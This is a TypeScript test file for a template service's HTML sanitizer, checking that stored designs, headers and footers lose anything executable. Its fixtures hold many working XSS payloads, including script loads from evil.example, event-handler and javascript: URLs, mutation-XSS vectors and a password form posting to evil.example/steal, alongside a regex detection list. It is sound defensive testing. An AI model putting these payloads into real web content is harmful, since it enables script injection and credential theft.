// Hostile designs: what PATCH stores of a design (and of a document's header and footer) has
// nothing left that could run or reach out when opened, and what is harmless stays as written.
import { beforeAll, describe, expect, it } from 'vitest';
import { expectOk, gqlData } from '../support/expect-envelope.ts';
import { restCaller } from '../support/rest-caller.ts';
import { useServer } from '../support/use-server.ts';
import { createTemplate, GQL, messageBody, one } from './template-fixtures.ts';

/** Anything of these in stored HTML could run script or load a page. */
const DANGER = [/<script/i, /\son\w+\s*=/i, /javascript:/i, /vbscript:/i, /<iframe/i, /<frame/i, /<form/i, /<input/i, /<button/i, /<object/i, /<embed/i, /<svg/i, /<math/i, /<base/i, /<meta/i, /<link/i, /expression\s*\(/i, /-moz-binding/i, /@import/i, /srcdoc/i, /formaction/i, /data:text\/html/i];

const HOSTILE: Record<string, string> = {
  script: '<p>Hi</p><script>alert(document.cookie)</script><SCRIPT SRC=//evil.example/x.js></SCRIPT>',
  onerror: '<img src="x" onerror="alert(1)"><body onload=alert(1)><div onclick="steal()" onmouseover=x()>hover</div>',
  javascriptUrl: '<a href="javascript:alert(1)">a</a><a href="JaVaScRiPt:alert(1)">b</a><a href="java&#x09;script:alert(1)">c</a><a href=" &#14; javascript:alert(1)">d</a><img src="javascript:alert(1)">',
  vbscript: '<a href="vbscript:msgbox(1)">v</a>',
  svgOnload: '<svg onload="alert(1)"><script>alert(2)</script><a xlink:href="javascript:alert(3)"><text>x</text></a></svg><svg><animate onbegin=alert(1) attributeName=x dur=1s>',
  styleExpressions: '<div style="width: expression(alert(1))">a</div><div style="background:url(javascript:alert(1))">b</div><div style="-moz-binding:url(http://evil/xss.xml#x)">c</div><div style="behavior: url(x.htc)">d</div><style>@import "https://evil.example/x.css"; p { color: red }</style><div style="back\\ground: url(\'java\\script:x\')">e</div>',
  iframe: '<iframe src="https://evil.example"></iframe><iframe srcdoc="<script>alert(1)</script>"></iframe><frameset><frame src="x"></frameset>',
  forms: '<form action="https://evil.example/steal"><input name="password" type="password"><button formaction="https://evil.example">Go</button><textarea>x</textarea><select><option>1</option></select></form>',
  objects: '<object data="evil.swf"></object><embed src="evil.swf"><applet code="x"></applet>',
  meta: '<meta http-equiv="refresh" content="0;url=https://evil.example"><base href="https://evil.example/"><link rel="stylesheet" href="https://evil.example/x.css">',
  dataUrls: '<a href="data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==">x</a><iframe src="data:text/html,<script>alert(1)</script>"></iframe>',
  mutation: '<noscript><p title="</noscript><img src=x onerror=alert(1)>"></noscript><math><mtext><table><mglyph><style><img src=x onerror=alert(1)>',
  template: '<template><script>alert(1)</script></template><div is="x-evil">y</div>',
};

describe('design sanitization', () => {
  const { server, teams: [team] } = useServer({ teams: 1 });
  const call = restCaller(() => server, () => team.apiKey);
  let id: string;
  beforeAll(async () => {
    id = (await createTemplate(call, messageBody({ documentSettings: undefined }))).id;
    expectOk(await call('PATCH', one(id), { documentSettings: { pageSize: 'A4' } }));
  });

  const stored = async (designHtml: string) => expectOk(await call('PATCH', one(id), { designHtml })).designHTML as string;

  for (const [name, html] of Object.entries(HOSTILE)) {
    it(`removes what could run: ${name}`, async () => {
      const clean = await stored(html);
      for (const pattern of DANGER) expect(clean, `${name}: ${pattern}`).not.toMatch(pattern);
      // what was read back is what the database holds
      const row = await server.app.services.prisma.contentTemplate.findFirstOrThrow({ where: { simplyId: id } });
      expect(row.designHtml).toBe(clean);
    });
  }

  it('keeps harmless markup, styles, links, images and merge tags as written', async () => {
    const clean = await stored(
      '<h1 style="color: #333; font-family: Arial">Dear {{first_name}}</h1><p>Visit <a href="https://example.org/x?a=1&amp;b=2" target="_blank">us</a> or <a href="mailto:info@example.org">mail</a>.</p>' +
        '<table><tr><td style="background: url(https://cdn.example.org/bg.png)">{{record.name}}</td></tr></table><img src="https://cdn.example.org/logo.png" alt="Logo" width="120"><img src="data:image/png;base64,iVBORw0KGgo=">',
    );
    expect(clean).toContain('<h1 style="color: #333; font-family: Arial">Dear {{first_name}}</h1>');
    expect(clean).toContain('<a href="https://example.org/x?a=1&amp;b=2" target="_blank">us</a>');
    expect(clean).toContain('href="mailto:info@example.org"');
    expect(clean).toContain('url(https://cdn.example.org/bg.png)');
    expect(clean).toContain('{{record.name}}');
    expect(clean).toContain('<img src="https://cdn.example.org/logo.png" alt="Logo" width="120">');
    expect(clean).toContain('src="data:image/png;base64,iVBORw0KGgo="');
  });

  it('a whole document keeps its head styles and doctype; the rest of the head goes', async () => {
    const clean = await stored('<!DOCTYPE html><html><head><title>T</title><style>p { margin: 0 }</style><script>x()</script></head><body><p>{{first_name}}</p></body></html>');
    expect(clean.startsWith('<!DOCTYPE html>')).toBe(true);
    expect(clean).toContain('<style>p { margin: 0 }</style>');
    expect(clean).toContain('<body><p>{{first_name}}</p></body>');
    expect(clean).not.toMatch(/<script/);
  });

  it('a design that is nothing but hostile is stored empty, and the document header and footer are sanitized too', async () => {
    expect(await stored('<script>alert(1)</script>')).toBe('');
    const header = expectOk(
      await call('PATCH', one(id), { documentSettings: { headerHtml: '<b>Head {{first_name}}</b><img src=x onerror=alert(1)>', footerHtml: '<a href="javascript:alert(1)">Page</a><iframe></iframe>' } }),
    ).documentSettings;
    expect(header.headerHtml).toBe('<b>Head {{first_name}}</b><img src="x">');
    expect(header.footerHtml).toBe('<a>Page</a>');
  });

  it('GraphQL updates are sanitized the same way', async () => {
    const updated = gqlData(await server.graphql(GQL.update, { id, input: { designHtml: '<p onclick="x()">ok</p><script>1</script>' } }, { token: team.apiKey })).updateContentTemplate;
    expect(updated.designHTML).toBe('<p>ok</p>');
  });
});
